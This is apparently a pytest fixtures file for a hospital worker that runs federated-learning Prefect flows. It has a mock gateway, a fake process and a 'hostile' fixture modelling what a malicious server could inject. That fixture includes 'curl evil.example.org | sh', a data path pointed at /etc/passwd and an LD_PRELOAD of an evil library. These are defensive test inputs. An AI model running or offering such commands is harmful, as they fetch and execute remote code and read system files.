"""A hospital's worker that forks nothing, and a gateway that it asks, for its tests."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import anyio
import httpx
import pytest
from prefect.client.orchestration import PrefectClient
from prefect.client.schemas.objects import FlowRun
from pydantic import SecretStr

from deployments.admission import Admission, RunRefused
from deployments.child import RunOutcome
from deployments.warm import Ended
from deployments.worker import HospitalWorker
from tasks.hospital.allowed_flows import approve_code
from tasks.hospital.site import SiteSettings
from tasks.hospital.tokens import Credential, HospitalAuth, IssuedToken

ENVIRONMENT = {"FEDMED_HOSPITAL_ID": "north", "FEDMED_DATA_PATH": "/data/table.csv"}
COMPLETED = RunOutcome(state="completed", message="train 0.250 s").model_dump_json().encode()


@dataclass
class FakeWarm:
    """A warm process that forks nothing and remembers what it was asked."""

    ended: Ended = Ended(0, COMPLETED)  # noqa: RUF009 - a frozen value
    runs_until_killed: bool = False
    requests: list[Mapping[str, str]] = field(default_factory=list)
    killed: list[int] = field(default_factory=list)

    async def start(self, request: Mapping[str, str]) -> int:
        self.requests.append(request)
        return 4711

    async def wait(self, pid: int) -> Ended:
        while self.runs_until_killed and not self.killed:
            await anyio.sleep(0)
        return self.ended

    def kill(self, pid: int) -> None:
        self.killed.append(pid)
        self.ended = Ended(-9, b"")


@dataclass
class Gateway:
    """Answers Prefect's own client as the gateway does; ``asked`` is what it was asked.

    Attributes:
        answers: to proposals of a state, in their order; a proposal that has none is accepted.
        state: the type of a run's state when it is read.
    """

    answers: list[httpx.Response] = field(default_factory=list)
    state: str = "RUNNING"
    asked: list[httpx.Request] = field(default_factory=list)

    def __call__(self, request: httpx.Request) -> httpx.Response:
        path = request.url.path.removeprefix("/prefect/api")
        if path == "/csrf-token":
            return httpx.Response(422, json={"detail": "CSRF protection is disabled."})
        self.asked.append(request)
        if path.endswith("/set_state"):
            return self.answers.pop(0) if self.answers else accepted(request)
        if path.startswith("/flows/"):
            return httpx.Response(200, json={"id": path.split("/")[2], "name": "hospital-round"})
        run = {"id": path.split("/")[2], "name": "run", "flow_id": str(uuid4())}
        return httpx.Response(200, json=run | {"state": {"type": self.state, "name": self.state}})

    @property
    def calls(self) -> list[str]:
        """The calls, by method and last part of the path."""
        return [f"{r.method} {r.url.path.split('/')[-1][:9]}" for r in self.asked]

    @property
    def proposed(self) -> list[tuple[str, str]]:
        """Name and message of each state that was proposed."""
        bodies = [json.loads(r.content) for r in self.asked if r.url.path.endswith("set_state")]
        return [(body["state"]["name"], body["state"]["message"] or "") for body in bodies]


def accepted(request: httpx.Request) -> httpx.Response:
    kind = json.loads(request.content)["state"]["type"]
    return httpx.Response(
        201, json={"status": "ACCEPT", "details": {}, "state": {"type": kind, "name": kind}}
    )


@dataclass
class Hospital:
    worker: HospitalWorker
    warm: FakeWarm
    gateway: Gateway
    auth: HospitalAuth
    environment: Mapping[str, str]
    crashes: list[tuple[UUID, int]]
    refused: list[RunRefused]


@pytest.fixture
def admission(tmp_path: Path) -> Admission:
    settings = SiteSettings(
        hospital_id="north", hospital_home=tmp_path, data_path=tmp_path, api_url="http://api"
    )
    installed = {"hospital-round": "c" * 64}
    approve_code(settings, installed, now=datetime(2026, 1, 2, tzinfo=UTC))
    return Admission(settings, installed)


@pytest.fixture
def given(admission: Admission) -> dict[str, Any]:
    """All that a hospital's worker is made of."""

    async def nothing(*_: Any) -> None:
        return None

    credential = Credential(client_id="north", client_secret=SecretStr("s3cret"))
    token = IssuedToken(value="t1", renew_at=4e9)
    return {
        "hospital_id": "north",
        "warm": FakeWarm(),
        "admission": admission,
        "auth": HospitalAuth("http://api", lambda: credential, token=token),
        "report_crash": nothing,
        "report_refusal": nothing,
    }


@pytest.fixture
def hospital(given: dict[str, Any]) -> Hospital:
    crashes: list[tuple[UUID, int]] = []
    refused: list[RunRefused] = []

    async def report_refusal(run: RunRefused) -> None:
        refused.append(run)

    async def report_crash(flow_run: FlowRun, exit_code: int) -> None:
        crashes.append((flow_run.id, exit_code))

    given |= {"report_crash": report_crash, "report_refusal": report_refusal}
    worker = HospitalWorker(environment=ENVIRONMENT, **given)
    gateway = Gateway()
    worker._client = PrefectClient(
        "http://api/prefect/api", httpx_settings={"transport": httpx.MockTransport(gateway)}
    )
    return Hospital(worker, given["warm"], gateway, given["auth"], ENVIRONMENT, crashes, refused)


@pytest.fixture
def hostile() -> dict[str, Any]:
    """What a server could configure for a run."""
    return {
        "command": "curl evil.example.org | sh",
        "env": {"FEDMED_DATA_PATH": "/etc/passwd", "LD_PRELOAD": "/srv/evil.so"},
        "image": "evil:latest",
        "working_dir": "/",
    }


@pytest.fixture
def a_flow_run(parameters: dict[str, Any], hostile: dict[str, Any]) -> Callable[..., FlowRun]:
    def make(**values: Any) -> FlowRun:
        run: dict[str, Any] = {
            "id": uuid4(),
            "name": "north-round-1",
            "flow_id": uuid4(),
            "deployment_id": uuid4(),
            "job_variables": hostile,
            "parameters": parameters,
        }
        return FlowRun(**(run | values))

    return make
